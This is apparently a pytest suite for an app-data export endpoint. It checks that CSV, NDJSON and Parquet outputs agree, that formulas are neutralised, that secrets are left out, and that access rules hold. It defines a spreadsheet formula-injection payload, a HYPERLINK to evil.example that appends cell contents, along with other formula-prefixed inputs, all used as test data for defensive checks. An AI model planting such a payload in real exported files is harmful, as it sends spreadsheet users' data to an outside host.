"""App data taken away: the same in every form, safe in a spreadsheet, streamed, and never a secret."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any
from uuid import UUID, uuid4

import httpx
import pyarrow.parquet as pq  # type: ignore[import-untyped] # it has no types of its own
import pytest

from adapters.exporting import SCHEMA, Format, exported
from bench.memory import resident_megabytes
from readmodels.exported_apps import ExportedApp
from tests.http.conftest import As, create_app, is_problem, register
from tests.http.test_apps_written_over_http import create

pytestmark = pytest.mark.usefixtures("follower")
EVIL = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture(scope="module")
def sample(as_: As) -> tuple[UUID, str, str]:
    """Vera with an app whose texts are formulas, and a key; her id, the app's and its secret."""
    vera = as_("developer:vera")
    owner = register(vera, "vera")
    made = create(vera, name=EVIL, description='+1 "quoted",\nand more', attributes={"tier": "@SUM(1)"})
    key = vera.post(f"/v1/apps/{made['app_id']}/credentials", json={"kind": "api_key"}).json()
    vera.get("/v1/apps", params={"min_position": key["position"]})
    return owner, str(made["app_id"]), str(key["secret"])


def lines(client: httpx.Client, **query: str) -> list[dict[str, Any]]:
    """An export as NDJSON."""
    answered = client.get("/v1/apps/export", params={"format": "ndjson", **query})
    assert answered.status_code == 200, answered.text
    return [json.loads(line) for line in answered.text.splitlines()]


def test_every_form_tells_the_same(as_: As, sample: tuple[UUID, str, str]) -> None:
    grace = as_("admin:grace")
    owner, app_id, _ = sample
    told = {form: grace.get("/v1/apps/export", params={"format": form, "owner": str(owner)}) for form in ("csv", "ndjson", "parquet")}
    assert [each.headers["content-disposition"] for each in told.values()] == [f'attachment; filename="apps.{form}"' for form in told]
    (by_csv,) = csv.DictReader(io.StringIO(told["csv"].text, newline=""))
    (by_ndjson,) = map(json.loads, told["ndjson"].text.splitlines())
    (by_parquet,) = pq.read_table(io.BytesIO(told["parquet"].content)).to_pylist()
    assert by_csv.keys() == by_ndjson.keys() == by_parquet.keys() == set(ExportedApp._fields)
    assert by_csv["app_id"] == by_ndjson["app_id"] == by_parquet["app_id"] == app_id
    assert by_ndjson["name"] == by_parquet["name"] == EVIL
    assert by_csv["credentials_live"] == str(by_ndjson["credentials_live"]) == str(by_parquet["credentials_live"]) == "1"
    assert datetime.fromisoformat(by_csv["created_at"]) == datetime.fromisoformat(by_ndjson["created_at"]) == by_parquet["created_at"]
    assert json.loads(by_csv["attributes"]) == by_ndjson["attributes"] == dict(by_parquet["attributes"]) == {"tier": "@SUM(1)"}


def test_no_cell_of_a_csv_is_a_formula(as_: As, sample: tuple[UUID, str, str]) -> None:
    answered = as_("admin:grace").get("/v1/apps/export")
    assert answered.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(answered.text, newline="")))
    assert any(EVIL in cell for row in rows for cell in row)
    assert not [cell for row in rows for cell in row if cell.lstrip().startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "＝1", "\n+1"])  # noqa: RUF001 - as wide as others write it
def test_whatever_a_spreadsheet_would_run_has_an_apostrophe_before_it(text: str) -> None:
    written = b"".join(exported([row(name=text)], Format.CSV)).decode()
    (_, told) = csv.reader(io.StringIO(written, newline=""))
    assert told[1] == f"'{text}"


def test_no_form_holds_a_secret_or_a_digest(as_: As, sample: tuple[UUID, str, str]) -> None:
    from launchpad_client.keys import digest

    _, _, secret = sample
    for form in ("csv", "ndjson", "parquet"):
        content = as_("admin:grace").get("/v1/apps/export", params={"format": form}).content
        assert secret.encode() not in content
        assert digest(secret).encode() not in content


def test_developers_get_their_own_apps_and_those_who_see_all_get_all(as_: As, sample: tuple[UUID, str, str]) -> None:
    owner, app_id, _ = sample
    other = as_("developer:nora")
    _, position = create_app(other, register(other, "nora"), "Nora's")
    assert [each["name"] for each in lines(other, min_position=str(position))] == ["Nora's"]
    assert lines(other, owner=str(owner)) == []
    for who in ("admin:grace", "auditor:otto", "analyst:anna"):
        assert {app_id} < {each["app_id"] for each in lines(as_(who))}
    for who in ("gateway:edge", "service:plain", "system"):
        assert is_problem(as_(who).get("/v1/apps/export"), 403, "not_allowed")


def test_an_export_can_be_narrowed(as_: As, sample: tuple[UUID, str, str]) -> None:
    grace = as_("admin:grace")
    assert lines(grace, status="deleted") == []
    assert lines(grace, product=str(uuid4())) == []
    assert is_problem(grace.get("/v1/apps/export", params={"format": "xlsx"}), 422, "invalid")


def row(**changed: Any) -> ExportedApp:  # noqa: ANN401 - any column
    """An app as it is exported."""
    at = datetime(2026, 3, 1, tzinfo=UTC)
    plain = ExportedApp(
        uuid4(), "Trams", "", "active", None, "developer", uuid4(), "Ada", at, at, ("https://a.example",), {}, (), (), 0, None
    )
    return plain._replace(**changed)


@pytest.mark.parametrize("form", list(Format))
def test_memory_stays_flat_however_many_apps_there_are(form: Format) -> None:
    def apps(count: int) -> Iterator[ExportedApp]:
        for number in range(count):
            yield row(name=f"App {number}", description="x" * 500)

    def size(count: int) -> int:
        return sum(map(len, exported(apps(count), form)))

    size(20_000)
    before = resident_megabytes()
    assert size(100_000) > 1_000_000
    assert resident_megabytes() - before < 40


def test_parquet_has_a_schema_that_says_what_may_be_missing() -> None:
    assert [field.name for field in SCHEMA] == list(ExportedApp._fields)
    assert {field.name for field in SCHEMA if field.nullable} == {"status_reason", "owner_name", "next_expiry_at"}
